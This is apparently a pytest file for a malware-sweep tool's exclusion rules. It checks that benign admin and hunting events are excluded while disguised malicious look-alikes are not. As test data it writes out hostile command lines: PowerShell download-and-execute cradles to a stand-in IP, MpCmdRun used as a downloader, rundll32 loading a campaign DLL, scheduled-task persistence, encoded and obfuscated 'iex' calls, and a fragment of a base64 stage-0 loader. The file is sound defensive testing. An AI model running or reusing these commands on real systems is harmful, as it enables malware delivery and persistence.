"""Known-benign rules take the benign event and leave its disguised twin and what is confirmed."""

from __future__ import annotations

from collections.abc import Sequence
from datetime import datetime, timezone
from pathlib import Path

import msgspec
import pytest
import yaml
from msgspec import structs

import iocs
from agent.findings.exclusions import Exclusions
from agent.findings.finding import Basis, basis_of
from agent.indicators import Conditions, Exclusion, ExclusionsFile
from agent.model.objects import Destination, Dll, File, Lnk, Parent, Pe, Process
from agent.model.observation import ByteHit, Claim, Observation, Place
from agent.model.report import Evidence, Finding, IndicatorRef, Strength
from tests.evidence.claims import CLAIMS, together
from tests.evidence.files import STAGE_0
from tests.evidence.packs import campaign, chains_of, exclusions, found

RULES_PATH = Path(iocs.__file__).parent / "exclusions.yaml"
NOW = datetime(2026, 11, 24, 14, 2, tzinfo=timezone.utc)

SYSTEM32 = "C:\\Windows\\System32\\"
POWERSHELL = SYSTEM32 + "WindowsPowerShell\\v1.0\\powershell.exe"
RUNDLL32 = SYSTEM32 + "rundll32.exe"
SCHEDULER = SYSTEM32 + "svchost.exe"
EXPLORER = "C:\\Windows\\explorer.exe"
SQL_AGENT = (
    "C:\\Program Files\\Microsoft SQL Server\\MSSQL15.MSSQLSERVER\\MSSQL\\Binn\\SQLAGENT.EXE"
)
DEFENDER = "C:\\ProgramData\\Microsoft\\Windows Defender\\Platform\\4.18.24090.11-0\\MsMpEng.exe"
MALWAREBYTES = "C:\\Program Files\\Malwarebytes\\Anti-Malware\\mbam.exe"
CYZFC = "C:\\Users\\jo\\AppData\\Local\\cyzfc.dat"


def event(
    path: str,
    command_line: str,
    parent: str = EXPLORER,
    *,
    strength: Strength = Strength.WEAK,
    sources: Sequence[str] = ("processes", "memory"),
    signer: str = "Microsoft Windows",
) -> Finding:
    """A process that something about it matched."""
    process = Process(
        pid=4312,
        name=path.rpartition("\\")[2],
        executable=path,
        command_line=command_line,
        parent=[Parent(pid=388, name=parent.rpartition("\\")[2], executable=parent)],
        signer=signer,
    )
    return finding(f"{process.name}[4312]", strength, sources, process=process)


def finding(
    place: str,
    strength: Strength,
    sources: Sequence[str],
    *,
    process: Process | None = None,
    file: File | None = None,
    dll: Dll | None = None,
    destination: Destination | None = None,
) -> Finding:
    return Finding(
        id="3f0c1d64-58a2-5a11-9d8f-0c1f3c9d8a11",
        time=NOW,
        strength=strength,
        score={Strength.WEAK: 30, Strength.STRONG: 70, Strength.CONFIRMED: 95}[strength],
        title="something matched",
        reasons=["something matched"],
        indicator=IndicatorRef(
            id="name-cyzfc-dat", type="file_name", value="cyzfc.dat", pack="cyzfc-2018-11"
        ),
        evidence=[
            Evidence(
                source=source,
                seen="seen",
                indicator="name-cyzfc-dat",
                strength=strength,
                place=Place(text=place),
            )
            for source in sources
        ],
        process=process,
        file=file,
        dll=dll,
        destination=destination,
    )


def dll_at_rest(*exports: str, strength: Strength = Strength.STRONG) -> Finding:
    pe = Pe(machine="amd64", dll=True, exports=list(exports))
    file = File(path=CYZFC, name="cyzfc.dat", size=8_704, pe=pe)
    return finding(CYZFC, strength, ["files"], file=file)


def dll_in_rundll32(*exports: str) -> Finding:
    pe = Pe(machine="amd64", dll=True, exports=list(exports))
    return finding(
        "rundll32.exe[4312]",
        Strength.STRONG,
        ["modules", "processes"],
        process=Process(
            pid=4312,
            name="rundll32.exe",
            executable=RUNDLL32,
            command_line=f"{RUNDLL32} {CYZFC},DLLMain",
        ),
        dll=Dll(path=CYZFC, name="cyzfc.dat", pe=pe),
    )


def powershell(command: str, parent: str = EXPLORER, path: str = POWERSHELL) -> Finding:
    return event(path, f"powershell.exe {command}", parent)


BENIGN = [
    # rule, what a person would say it is, event
    (
        "scheduled-maintenance-task",
        "a weekly clean-up is registered",
        event(
            SYSTEM32 + "schtasks.exe",
            'schtasks.exe /create /tn "Weekly maintenance" /sc weekly /ru SYSTEM /tr '
            '"powershell.exe -noni -ep bypass $d=(Get-Date).AddDays(-30); Optimize-Volume C"',
            SYSTEM32 + "cmd.exe",
        ),
    ),
    (
        "scheduled-maintenance",
        "the clean-up runs",
        powershell(
            "-NonI -Ep Bypass $d=(Get-Date).AddDays(-30); Get-ChildItem D:\\Spool |"
            " Where-Object LastWriteTime -lt $d | Remove-Item",
            SCHEDULER,
        ),
    ),
    (
        "powershell-configuration-backup",
        "IIS configuration is copied over remoting",
        powershell(
            "-noni -ep bypass $n=Get-Date -Format yyyyMMdd; Copy-Item C:\\inetpub\\config"
            " D:\\Backup\\$n -Recurse",
            SYSTEM32 + "wsmprovhost.exe",
        ),
    ),
    (
        "sql-server-agent-job",
        "a job step checks free space",
        powershell("-noni -ep bypass $v=Get-Volume; $v | Export-Csv D:\\Jobs\\v.csv", SQL_AGENT),
    ),
    (
        "log-rotation",
        "old web logs are packed",
        powershell(
            "-noni -ep bypass $l=Get-ChildItem C:\\inetpub\\logs\\*.log; $l | Compress-Archive"
            " -DestinationPath D:\\Logs\\web.zip",
            SYSTEM32 + "cmd.exe",
        ),
    ),
    (
        "antivirus-scan",
        "Defender has its signatures in memory",
        event(DEFENDER, f'"{DEFENDER}"', SYSTEM32 + "services.exe", sources=["memory"]),
    ),
    (
        "antivirus-scan",
        "Malwarebytes is asked to scan the file",
        event(MALWAREBYTES, f'"{MALWAREBYTES}" /scan {CYZFC}', signer="Malwarebytes Inc."),
    ),
    (
        "hunt-with-a-search-tool",
        "findstr searches for the whole call",
        event(
            SYSTEM32 + "findstr.exe",
            'findstr /s /i /c:"cyzfc.dat, PointFunctionCall" C:\\Logs\\*.txt',
            SYSTEM32 + "cmd.exe",
            strength=Strength.STRONG,
        ),
    ),
    (
        "hunt-with-a-search-tool",
        "where looks for the file",
        event(SYSTEM32 + "where.exe", "where /r C:\\Users cyzfc.dat"),
    ),
    (
        "hunt-with-dir",
        "cmd lists the drive",
        event(SYSTEM32 + "cmd.exe", "cmd.exe /c dir /s /b C:\\Users\\cyzfc.dat"),
    ),
    (
        "hunt-with-cmd-findstr",
        "cmd searches logs",
        event(SYSTEM32 + "cmd.exe", "cmd.exe /c findstr /s /i pandorasong.com C:\\Logs\\*.log"),
    ),
    (
        "hunt-with-get-childitem",
        "PowerShell lists the profiles",
        powershell(
            "-NoProfile -Command \"Get-ChildItem C:\\Users -Recurse -Force -Filter 'cyzfc.dat'"
            ' -ErrorAction SilentlyContinue | Select-Object FullName"'
        ),
    ),
    (
        "hunt-with-select-string",
        "PowerShell searches logs",
        powershell('-Command "Select-String -Path D:\\Logs\\*.txt -Pattern cyzfc.dat,ds7002.lnk"'),
    ),
    (
        "hunt-with-test-path",
        "PowerShell asks for the file",
        powershell("Test-Path $env:LOCALAPPDATA\\cyzfc.dat"),
    ),
    (
        "hunt-with-get-winevent",
        "a converted Sigma rule reads the Sysmon log",
        powershell(
            "Get-WinEvent -LogName Microsoft-Windows-Sysmon/Operational | where {$_.ID -eq 11"
            " -and $_.message -match 'TargetFilename.*ds7002.lnk'}"
        ),
    ),
    ("lab-dllmain-file", "the lab's DLL lies in the profile", dll_at_rest("DLLMain")),
    (
        "lab-dllmain-command-line",
        "the lab's call failed, nothing is loaded",
        event(RUNDLL32, f'"{RUNDLL32}" "{CYZFC}," DLLMain', POWERSHELL),
    ),
    (
        "demo-vision-one",
        "the demo's process",
        event(
            RUNDLL32,
            "c:\\windows\\system32\\rundll32.exe"
            " c:\\users\\sam\\appdata\\local\\cyzfc.dat entrypoint",
        ),
    ),
]

DISGUISED = [
    # rule whose clothes it wears, what it really is, event
    (
        "scheduled-maintenance-task",
        "persistence that runs the DLL",
        event(
            SYSTEM32 + "schtasks.exe",
            'schtasks.exe /create /tn "Weekly maintenance" /sc weekly /tr "powershell.exe -noni -ep'
            f' bypass $d={CYZFC}; rundll32 $d,PointFunctionCall"',
        ),
    ),
    (
        "scheduled-maintenance-task",
        "another program under the name",
        event(
            "C:\\Users\\jo\\AppData\\Local\\Temp\\schtasks.exe",
            'schtasks.exe /create /tn Maintenance /tr "powershell -noni -ep bypass $d=1"',
        ),
    ),
    (
        "scheduled-maintenance",
        "a download from the Task Scheduler",
        powershell(
            "-noni -ep bypass $w=(New-Object Net.WebClient).DownloadString('http://192.0.2.1/m')",
            SCHEDULER,
        ),
    ),
    (
        "scheduled-maintenance",
        "the shortcut's own line, by Explorer",
        powershell("-noni -ep bypass $d=(Get-Date).AddDays(-30)", EXPLORER),
    ),
    (
        "scheduled-maintenance",
        "stage 0 from the Task Scheduler",
        powershell("-noni -ep bypass $zk='JHB0Z3Q9MHgwMDA1ZTJi';$fz='FromBase'+0x40", SCHEDULER),
    ),
    (
        "powershell-configuration-backup",
        "a backup that runs what it decoded",
        powershell(
            "-noni -ep bypass $Backup=[Text.Encoding]::ASCII.GetString($b); iex $Backup",
            SYSTEM32 + "wsmprovhost.exe",
        ),
    ),
    (
        "powershell-configuration-backup",
        "a backup of the loader itself",
        powershell(f"-noni -ep bypass $Backup='{CYZFC}'", SYSTEM32 + "cmd.exe"),
    ),
    (
        "sql-server-agent-job",
        "xp_cmdshell: by the server, not by its agent",
        powershell("-noni -ep bypass $v=Get-Volume", SQL_AGENT.replace("SQLAGENT", "sqlservr")),
    ),
    (
        "sql-server-agent-job",
        "a job step that fetches and runs",
        powershell("-noni -ep bypass $v=irm https://192.0.2.1/a; iex $v", SQL_AGENT),
    ),
    (
        "log-rotation",
        "forfiles as a launcher",
        event(
            SYSTEM32 + "forfiles.exe",
            'forfiles /p C:\\Windows /m *.log /c "powershell -noni -ep bypass $x=1; rundll32'
            ' C:\\x.log,PointFunctionCall"',
            SYSTEM32 + "cmd.exe",
        ),
    ),
    (
        "antivirus-scan",
        "a process that is merely named MsMpEng.exe",
        event("C:\\Users\\jo\\AppData\\Local\\Temp\\MsMpEng.exe", "MsMpEng.exe", signer=""),
    ),
    (
        "antivirus-scan",
        "the signed MsMpEng.exe, copied beside an attacker's DLL",
        event(
            "C:\\Users\\Public\\MsMpEng.exe", "MsMpEng.exe", signer="Microsoft Windows Publisher"
        ),
    ),
    (
        "antivirus-scan",
        "MpCmdRun as a downloader",
        event(
            DEFENDER.replace("MsMpEng", "MpCmdRun"),
            f"MpCmdRun.exe -DownloadFile -url https://192.0.2.1/d -path {CYZFC}",
        ),
    ),
    (
        "antivirus-scan",
        "the scanner talks to the campaign's address",
        event(DEFENDER, DEFENDER, SYSTEM32 + "services.exe", sources=["memory", "connections"]),
    ),
    (
        "hunt-with-a-search-tool",
        "another program under the name",
        event("C:\\Users\\jo\\Downloads\\findstr.exe", "findstr /s cyzfc.dat C:\\", signer=""),
    ),
    (
        "hunt-with-a-search-tool",
        "a hollowed findstr with the DLL inside",
        event(
            SYSTEM32 + "findstr.exe",
            "findstr cyzfc.dat",
            strength=Strength.STRONG,
            sources=["processes", "modules"],
        ),
    ),
    (
        "hunt-with-dir",
        "a listing that goes on to run it",
        event(
            SYSTEM32 + "cmd.exe",
            f"cmd.exe /c dir /b {CYZFC} && rundll32 {CYZFC},PointFunctionCall",
        ),
    ),
    (
        "hunt-with-dir",
        "a program whose name begins like the command",
        event(SYSTEM32 + "cmd.exe", f"cmd.exe /c dirty.exe {CYZFC}"),
    ),
    (
        "hunt-with-cmd-findstr",
        "a search piped into a shell",
        event(SYSTEM32 + "cmd.exe", f"cmd.exe /c findstr /v x {CYZFC} | cmd"),
    ),
    (
        "hunt-with-get-childitem",
        "a search that runs what it finds",
        powershell(
            '-Command "Get-ChildItem $env:LOCALAPPDATA -Filter cyzfc.dat | % { rundll32 '
            '$_.FullName, PointFunctionCall }"'
        ),
    ),
    (
        "hunt-with-get-childitem",
        "the same with the word in pieces",
        powershell("Get-ChildItem cyzfc.dat | % { & ('run'+'dll32') $_.FullName 1 }"),
    ),
    (
        "hunt-with-get-childitem",
        "stage 0 in the clear, which lists files too",
        powershell(
            "$oe=Get-ChildItem -Path $Env:temp -Filter ds7002.lnk -Recurse;$vzvi=New-Object"
            " IO.FileStream ds7002.lnk,'Open','Read','ReadWrite';iex $zk"
        ),
    ),
    (
        "hunt-with-get-childitem",
        "a script of any kind with the hunt as its arguments",
        powershell("-File C:\\Users\\Public\\a.ps1 Get-ChildItem cyzfc.dat"),
    ),
    (
        "hunt-with-select-string",
        "a search that first fetches",
        powershell("iwr https://192.0.2.1/x -OutFile cyzfc.dat; Select-String x cyzfc.dat"),
    ),
    (
        "hunt-with-select-string",
        "an encoded command behind the search",
        powershell("Select-String cyzfc.dat x.txt; powershell -enc SQBFAFgA"),
    ),
    (
        "hunt-with-test-path",
        "a loader that asks before it runs",
        powershell(
            f"if (Test-Path {CYZFC}) {{ Start-Process rundll32 {CYZFC},PointFunctionCall }}"
        ),
    ),
    (
        "hunt-with-get-winevent",
        "code kept in a log and run from there",
        powershell(
            "Get-WinEvent -LogName Application | where {$_.Message -match 'cyzfc.dat'} | iex"
        ),
    ),
    (
        "hunt-with-get-winevent",
        "another program under the name",
        powershell("Get-WinEvent cyzfc.dat", path="C:\\ProgramData\\powershell.exe"),
    ),
    (
        "lab-dllmain-file",
        "the campaign's DLL with the lab's export added",
        dll_at_rest("DLLMain", "PointFunctionCall"),
    ),
    ("lab-dllmain-file", "a DLL with the campaign's export", dll_at_rest("PointFunctionCall")),
    ("lab-dllmain-file", "a file whose exports could not be read", dll_at_rest()),
    ("lab-dllmain-file", "an attacker's DLL with a DllMain", dll_at_rest("DllMain", "Run")),
    ("lab-dllmain-file", "the same with nothing else", dll_at_rest("DllMain")),
    ("lab-dllmain-file", "the lab's DLL with one export more", dll_at_rest("DLLMain", "Run")),
    (
        "lab-dllmain-file",
        "the lab's DLL, but running: somebody has to say that it was meant to",
        dll_in_rundll32("DLLMain"),
    ),
    (
        "lab-dllmain-command-line",
        "the campaign's call with the lab's word behind it",
        event(RUNDLL32, f"rundll32.exe {CYZFC},PointFunctionCall {CYZFC},DLLMain"),
    ),
    (
        "lab-dllmain-command-line",
        "the lab's call with a connection to the campaign's server",
        event(RUNDLL32, f"rundll32 {CYZFC},DLLMain", sources=["processes", "connections"]),
    ),
    (
        "demo-vision-one",
        "the campaign's call for the demo's user",
        event(RUNDLL32, "rundll32.exe c:\\users\\sam\\appdata\\local\\cyzfc.dat,PointFunctionCall"),
    ),
    (
        "demo-vision-one",
        "the demo's entry point for another user",
        event(RUNDLL32, f"rundll32.exe {CYZFC} entrypoint"),
    ),
]


@pytest.fixture(scope="module")
def rules() -> dict[str, Exclusion]:
    text = RULES_PATH.read_text(encoding="ascii")
    decoded = msgspec.convert(yaml.safe_load(text), ExclusionsFile)
    assert len({rule.id for rule in decoded.rules}) == len(decoded.rules)
    return {rule.id: rule for rule in decoded.rules}


def apply(found: Finding) -> Finding:
    """What the built-in rules make of a finding."""
    basis = Basis(
        sources=frozenset(seen.source for seen in found.evidence),
        parts=tuple(part for part in (found.file, found.dll) if part is not None),
    )
    return exclusions().apply(found, basis)


def cases(table: Sequence[tuple[str, str, Finding]]) -> list[object]:
    return [pytest.param(rule, found, id=f"{rule}: {what}") for rule, what, found in table]


@pytest.mark.parametrize(("rule", "found"), cases(BENIGN))
def test_the_benign_event_is_excluded_and_says_by_what(rule: str, found: Finding) -> None:
    answer = apply(found)
    assert (answer.strength, answer.excluded_by) == (Strength.EXCLUDED, rule)
    assert answer.evidence == found.evidence


@pytest.mark.parametrize(("rule", "found"), cases(DISGUISED))
def test_the_disguised_event_is_left_alone(rule: str, found: Finding) -> None:
    answer = apply(found)
    assert (answer.strength, answer.excluded_by) == (found.strength, None)


@pytest.mark.parametrize(("rule", "found"), cases(BENIGN))
def test_a_confirmed_finding_is_never_excluded(rule: str, found: Finding) -> None:
    confirmed = msgspec.structs.replace(found, strength=Strength.CONFIRMED, score=95)
    assert apply(confirmed).strength is Strength.CONFIRMED


@pytest.mark.parametrize(("rule", "found"), cases(BENIGN))
def test_a_finding_above_the_rules_limit_is_left_alone(
    rules: dict[str, Exclusion], rule: str, found: Finding
) -> None:
    limit = Strength(rules[rule].limit)
    above = Strength.STRONG if limit is Strength.WEAK else Strength.CONFIRMED
    stronger = msgspec.structs.replace(found, strength=above, score=95)
    assert apply(stronger).excluded_by is None


def test_every_rule_has_a_benign_and_a_disguised_event(rules: dict[str, Exclusion]) -> None:
    by_text = {rule for rule, *_ in AT_REST} | LOGGED
    assert {rule for rule, _, _ in BENIGN} | by_text == set(rules)
    assert {rule for rule, _, _ in DISGUISED} | by_text == set(rules)


def test_a_rule_about_a_program_wants_its_whole_path(rules: dict[str, Exclusion]) -> None:
    protected = (
        "C:\\Windows\\",
        "C:\\Program Files",
        "C:\\ProgramData\\Microsoft\\Windows Defender\\",
    )
    for rule in rules.values():
        if rule.when.process:
            assert rule.when.path, rule.id
            assert not rule.when.signer, rule.id
            assert all(path.startswith(protected) for path in rule.when.path), rule.id


def test_every_rule_says_who_may_have_seen_it(rules: dict[str, Exclusion]) -> None:
    for rule in rules.values():
        assert rule.when.sources, rule.id


def test_only_what_cannot_run_anything_may_be_excluded_when_strong(
    rules: dict[str, Exclusion],
) -> None:
    strong = {rule.id for rule in rules.values() if Strength(rule.limit) is Strength.STRONG}
    by_text = {rule for rule, *_ in AT_REST} | LOGGED
    assert strong == {"hunt-with-a-search-tool", "lab-dllmain-file", *by_text}


STAGE_0_START = "$zk='JHB0Z3Q9MHgwMDA1ZTJiZTskdmNxPTB4MDAwNjIzYjY7JHRiPSJkczcwMDIubG5rIjtpZi'"
AT_REST = [
    (
        "hunt-script-at-rest",
        ("a.ps1", f'Select-String -Path x -Pattern "{STAGE_0_START}"'),
        [
            ("a.ps1", f'Select-String -Path x -Pattern 1; iex "{STAGE_0_START}"'),
            ("a.ps1", f'Select-String -Path x -Pattern 1; i`ex "{STAGE_0_START}"'),
            ("a.ps1", f"{STAGE_0_START}"),
            ("a.vbs", f'Select-String -Path x -Pattern "{STAGE_0_START}"'),
        ],
    ),
    (
        "notes-at-rest",
        ("a.html", f"<pre>powershell {STAGE_0_START}; iex $rhia</pre>"),
        [
            ("a.html", f"<SCRIPT>{STAGE_0_START}"),
            ("a.hta", f"<pre>{STAGE_0_START}</pre>"),
            ("a.html.ps1", f"<pre>{STAGE_0_START}</pre>"),
            ("a", f"<pre>{STAGE_0_START}</pre>"),
        ],
    ),
    (
        "list-at-rest",
        ("a.txt", f"pandorasong.com\n{STAGE_0_START}"),
        [("a.txt", STAGE_0_START), ("a.txt.bat", f"pandorasong.com\n{STAGE_0_START}")],
    ),
    (
        "python-tests-at-rest",
        ("test_a.py", f'STAGE_0 = "{STAGE_0_START}"'),
        [
            ("a.py", f'import subprocess; subprocess.run("{STAGE_0_START}")'),
            ("a.py", f'import ctypes; X = "{STAGE_0_START}"'),
        ],
    ),
]
"""A rule, a file that it is about, and files that only look like it."""


IN_DEFENDER = "ProgramData\\Microsoft\\Windows Defender\\Support\\MPLog-1.log"
QUARANTINED = "ProgramData\\Vendor\\Quarantine\\4711.info"
CACHED = "Users\\jo\\AppData\\Local\\Google\\Chrome\\User Data\\Default\\Cache\\Cache_Data\\f_1"
AT_REST += [
    (
        "log-with-a-source-of-its-own",
        ("Windows\\System32\\winevt\\Logs\\a.evtx", STAGE_0_START),
        [
            ("Users\\jo\\a.evtx", STAGE_0_START),
            ("Windows\\System32\\winevt\\Logs\\a.evtx.ps1", STAGE_0_START),
        ],
    ),
    (
        "antivirus-log",
        (IN_DEFENDER, f"DETECTION Trojan:Win32/Cyzfc in powershell {STAGE_0_START}"),
        [
            (IN_DEFENDER, STAGE_0_START),
            (IN_DEFENDER.replace(".log", ".ps1"), f"# DETECTION\n{STAGE_0_START}"),
            (IN_DEFENDER.replace("Microsoft", "x"), f"DETECTION in powershell {STAGE_0_START}"),
            (f"Users\\jo\\{IN_DEFENDER[12:]}", f"DETECTION in powershell {STAGE_0_START}"),
        ],
    ),
    (
        "quarantine-record",
        (QUARANTINED, f"original=C:\\Users\\jo\\a.ps1\nline={STAGE_0_START}"),
        [
            (QUARANTINED, STAGE_0_START),
            (QUARANTINED.replace(".info", ".bat"), f"rem original\n{STAGE_0_START}"),
            (QUARANTINED.replace("Quarantine", "x"), f"original=a.ps1\n{STAGE_0_START}"),
        ],
    ),
    (
        "list-in-a-browsers-cache",
        (CACHED, f"<script>x()</script> pandorasong.com <pre>{STAGE_0_START}</pre>"),
        [
            (CACHED, STAGE_0_START),
            (CACHED, f"<hta:application> pandorasong.com {STAGE_0_START}"),
            (CACHED.replace("Cache\\", "x\\"), f"pandorasong.com {STAGE_0_START}"),
        ],
    ),
]


def of_text(path: str, text: str, *, known: bool = True) -> Finding:
    name = path.rpartition("\\")[2]
    hit = ByteHit("content-stage0-long", 0, text)
    seen = Observation(
        source="files", claim=Claim.MENTIONED, seen="content", place=Place(text=name),
        file=File(path=f"C:\\{path}", name=name), hits=(hit,), text=text if known else "",
    )  # fmt: skip
    (chain,) = chains_of(campaign().match(seen))
    return exclusions().apply(found(chain, NOW)[0], basis_of(chain))


@pytest.mark.parametrize(
    ("rule", "benign", "disguised"), AT_REST, ids=[rule for rule, *_ in AT_REST]
)
def test_a_hunt_at_rest_is_excluded_and_what_looks_like_it_is_not(
    rule: str, benign: tuple[str, str], disguised: list[tuple[str, str]]
) -> None:
    assert of_text(*benign).excluded_by == rule
    by_place_alone = rule == "log-with-a-source-of-its-own"
    assert (of_text(*benign, known=False).excluded_by == rule) is by_place_alone
    assert [of_text(*one).strength for one in disguised] == [Strength.STRONG] * len(disguised)


SEARCH = f'Get-WinEvent -LogName Security | Where-Object {{ $_.Message -like "*{STAGE_0_START}*" }}'
LOGGED = {"hunt-as-it-was-logged", "hunt-script-that-ran"}
SEARCHES = [
    SEARCH,
    f'findstr /s /i /c:"{STAGE_0_START}" C:\\Logs\\*.txt',
    f'Get-ChildItem -Recurse -Force | Select-String "{STAGE_0_START}"',
    "Select-String -Path a.txt 'cyzfc.dat, PointFunctionCall'",
]
RUNS = [
    f"{SEARCH}; iex $zk",
    f"{SEARCH}; i`ex $zk",
    f"{SEARCH}; . $env:TEMP\\x.ps1",
    f"{SEARCH}; .\\x $zk",
    f"{SEARCH} | %{{ & $_ }}",
    f"{SEARCH}; [Convert]::FromBase64String($zk)",
    f"{SEARCH}; rundll32 C:\\Users\\jo\\AppData\\Local\\cyzfc.dat, PointFunctionCall",
    f"{SEARCH}; powershell -e SQBFAFgA",
    f"{SEARCH} > $env:TEMP\\x.txt",
    f"powershell {STAGE_0}",
    STAGE_0,
]


def logged(text: str, name: str = "", *, source: str = "event_logs", known: bool = True) -> Finding:
    """A script or a command that ran, as a log has it."""
    return judged(ran(text, name, source=source, known=known))


def ran(
    text: str, name: str = "", *, source: str = "event_logs", known: bool = True
) -> Observation:
    return Observation(
        source=source, claim=Claim.RAN, seen="PowerShell event 4104", place=Place(text="log"),
        process=Process(pid=4120, command_line=text),
        file=File(path=f"C:\\{name}", name=name) if name else None,
        text=text if known else "",
    )  # fmt: skip


@pytest.mark.parametrize("name", ["", "hunt.ps1"])
def test_a_hunt_that_was_logged_is_excluded_and_what_could_run_anything_is_not(name: str) -> None:
    assert {logged(text, name).excluded_by for text in SEARCHES} == {"hunt-as-it-was-logged"}
    assert {logged(text, name, known=False).strength for text in SEARCHES} == {Strength.STRONG}
    assert [logged(text, name).strength for text in RUNS] == [Strength.STRONG] * len(RUNS)


@pytest.mark.parametrize(
    ("name", "lies", "ran_as", "excluded_by"),
    [
        ("hunt.ps1", SEARCH, SEARCH, "hunt-script-that-ran"),
        ("hunt.hta", SEARCH, SEARCH, None),
        ("hunt.ps1", STAGE_0, SEARCH, None),
        ("hunt.ps1", SEARCH, STAGE_0, None),
    ],
)
def test_a_hunting_script_is_judged_by_what_lies_there_and_what_ran(
    name: str, lies: str, ran_as: str, excluded_by: str | None
) -> None:
    at_rest = Observation(
        source="files", claim=Claim.MENTIONED, seen="content", place=Place(text=name),
        file=File(path=f"C:\\{name}", name=name), hits=(ByteHit("content-stage0-long", 0, lies),),
        text=lies,
    )  # fmt: skip
    assert judged(at_rest, ran(ran_as, name)).excluded_by == excluded_by


def test_a_hunt_that_was_typed_is_one_too_and_a_command_line_is_none() -> None:
    assert logged(SEARCH, source="console_history").excluded_by == "hunt-as-it-was-logged"
    assert logged(SEARCH, known=False).strength is Strength.STRONG
    assert logged(SEARCH, source="prefetch").strength is Strength.STRONG


def test_a_hunt_does_not_hide_what_else_its_process_ran() -> None:
    assert judged(ran(SEARCH), ran(STAGE_0)).strength is Strength.STRONG
    assert judged(ran(STAGE_0), ran(SEARCH)).strength is Strength.STRONG
    assert judged(ran(SEARCH), ran(SEARCH)).excluded_by == "hunt-as-it-was-logged"


def audited(path: str, line: str, pid: int = 4312) -> Observation:
    process = Process(pid=pid, name=path.rpartition("\\")[2], executable=path, command_line=line)
    return Observation(
        source="event_logs", claim=Claim.RAN, seen="event 4688", place=Place(text="x"),
        process=process,
    )  # fmt: skip


FINDSTR = audited(
    SYSTEM32 + "findstr.exe", 'findstr /s /c:"cyzfc.dat, PointFunctionCall" C:\\Logs\\*.txt'
)


def test_a_search_tool_in_a_log_is_excluded_and_not_what_it_did_beside() -> None:
    assert judged(FINDSTR).excluded_by == "hunt-with-a-search-tool"
    connected = structs.replace(
        FINDSTR, claim=Claim.CONNECTED, destination=Destination(ip="95.216.59.92")
    )
    assert judged(FINDSTR, connected).excluded_by is None


def test_a_search_tool_in_a_log_excuses_no_other_process() -> None:
    other = audited(RUNDLL32, f"rundll32 {CYZFC},PointFunctionCall", pid=4313)
    again = structs.replace(FINDSTR, place=Place(text="Sysmon"))
    assert judged(FINDSTR, again).excluded_by == "hunt-with-a-search-tool"
    assert judged(FINDSTR, other).strength is Strength.STRONG


@pytest.mark.parametrize(
    ("when", "name", "text", "holds"),
    [
        (Conditions(extensions=[".kql"]), "a.KQL", "any", True),
        (Conditions(extensions=[".kql"]), "a.ps1", "any", False),
        (Conditions(content=["hunt"]), "a.ps1", "a Hunt", True),
        (Conditions(content=["hunt"]), "a.ps1", "none", False),
        (Conditions(not_content=["iex"]), "a.ps1", "none", True),
        (Conditions(not_content=["iex"]), "a.ps1", "IEX $a", False),
        (Conditions(file=["*\\a.kql"]), "a.KQL", "any", True),
        (Conditions(file=["*\\a.kql"]), "b.kql", "any", False),
        (Conditions(claims=[Claim.MENTIONED]), "a.ps1", "any", True),
        (Conditions(claims=[Claim.RAN]), "a.ps1", "any", False),
        (Conditions(extensions=[".kql"], content=["hunt"]), "a.ps1", "hunt", False),
        (Conditions(extensions=[".kql"], content=["hunt"]), "a.kql", "none", False),
        (Conditions(extensions=[".kql"], not_content=["iex"]), "a.kql", "iex", False),
    ],
)
def test_each_condition_on_a_text_has_to_hold(
    when: Conditions, name: str, text: str, holds: bool
) -> None:
    hit = ByteHit("content-stage0-long", 0, text)
    seen = Observation(
        source="files", claim=Claim.MENTIONED, seen="content", place=Place(text=name),
        file=File(path=f"C:\\{name}", name=name), hits=(hit,), text=text,
    )  # fmt: skip
    (chain,) = chains_of(campaign().match(seen))
    rule = Exclusion(id="x", title="X", reason="known", when=when)
    file = ExclusionsFile(exclusions="iocsweep.exclusions/1", version="1", rules=[rule])
    told = Exclusions(file).apply(found(chain, NOW)[0], basis_of(chain))
    assert (told.strength is Strength.EXCLUDED) is holds


def test_a_condition_on_texts_has_to_hold_of_each() -> None:
    texts = [("a.kql", "hunt"), ("b.ps1", "hunt")]
    hit = ByteHit("content-stage0-long", 0, "hunt")
    seen = [
        Observation(
            source="files", claim=Claim.MENTIONED, seen="content", place=Place(text="both"),
            file=File(path=f"C:\\{name}", name=name), hits=(hit,), text=text,
        )
        for name, text in texts
    ]  # fmt: skip
    rule = Exclusion(id="x", title="X", reason="known", when=Conditions(extensions=[".kql"]))
    rules = Exclusions(
        ExclusionsFile(exclusions="iocsweep.exclusions/1", version="1", rules=[rule])
    )
    both = together(*(match for one in seen for match in campaign().match(one)))
    (chain,) = chains_of(both)
    assert rules.apply(found(chain, NOW)[0], basis_of(chain)).strength is Strength.STRONG


# What a finding rests on is more than what it shows.

LOCAL = "Users\\jo\\AppData\\Local\\"


def on_disk(
    path: str,
    *exports: str,
    arguments: str = "",
    archive: str = "",
    source: str = "files",
) -> Observation:
    """A file with exports, or a shell link with arguments, alone or in an archive."""
    pe = Pe(machine="amd64", dll=True, exports=list(exports)) if exports else None
    lnk = Lnk(arguments=arguments) if arguments else None
    return Observation(
        source=source,
        claim=CLAIMS.get(source, Claim.EXISTS),
        seen="file",
        place=Place(text=path),
        file=File(path=path, name=path.rpartition("\\")[2], pe=pe, lnk=lnk, member_of=archive),
    )


def judged(*observations: Observation) -> Finding:
    """The one finding of observations that belong together, after the built-in rules."""
    matcher = campaign()
    matches = [match for seen in observations for match in matcher.match(seen)]
    (chain,) = chains_of(together(*matches))
    finding, _ = found(chain, NOW)
    return exclusions().apply(finding, basis_of(chain))


def test_the_labs_dll_alone_is_excluded() -> None:
    assert judged(on_disk(CYZFC, "DLLMain")).excluded_by == "lab-dllmain-file"


def test_the_labs_dll_excuses_no_other_file_of_its_archive() -> None:
    found = judged(
        on_disk("cyzfc.dat", "DLLMain", archive="C:\\a.zip"),
        on_disk("ds7002.lnk", arguments=STAGE_0, archive="C:\\a.zip"),
    )

    assert (found.strength, found.excluded_by) == (Strength.STRONG, None)


def test_the_labs_dll_excuses_no_other_dll() -> None:
    found = judged(
        on_disk(CYZFC, "DLLMain"), on_disk("C:\\Users\\al\\AppData\\Local\\cyzfc.dat", "Run")
    )

    assert (found.strength, found.excluded_by) == (Strength.STRONG, None)


def test_a_sighting_beyond_those_that_are_kept_counts_for_an_exclusion() -> None:
    many = [on_disk(f"C:\\{n}\\{LOCAL}cyzfc.dat", "DLLMain") for n in range(300)]
    weak = on_disk("C:\\ds7002.pdf", source="registry")

    assert judged(*many).excluded_by == "lab-dllmain-file"
    assert judged(*many, weak).excluded_by is None


